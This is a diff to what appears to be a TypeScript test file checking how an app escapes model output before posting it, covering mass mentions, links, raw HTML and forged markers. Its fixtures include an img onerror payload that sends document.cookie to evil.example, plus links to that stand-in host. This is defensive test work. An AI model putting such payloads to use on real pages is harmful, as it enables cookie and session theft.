@@ -45,9 +45,9 @@ const expectedModelInput: Record<string, string> = {
 const expectedPosted: Record<string, string> = {
   "model echoes a mass mention": "Heads-up `@org/everyone` and `@security-team`: this needs a look.",
   "model links to an evil host":
-    "See \\[the fix\\](`https://evil.example/steal?c=1)` and `https://evil.example/more` or \\<`https://evil.example/x>.`",
+    "See \\[the fix\\](`https://evil.example/steal?c=1)` and `https://evil.example/more` or &lt;`https://evil.example/x>.`",
   "model emits raw HTML with an onerror handler":
-    "Preview: \\<img src=x onerror=\"fetch('`https://evil.example/'+document.cookie)\">` \\<script\\>alert(1)\\</script\\>",
+    "Preview: &lt;img src=x onerror=\"fetch('`https://evil.example/'+document.cookie)\">` &lt;script\\>alert(1)&lt;/script\\>",
   "model forges the app's hidden marker": "No issues.\n",
   // A suggestion written in prose is never offered to commit: only a finding's checked `suggestion` is.
   "model leaves a code fence open": "Use this:\n```\nconst x = 1;\n\n```",
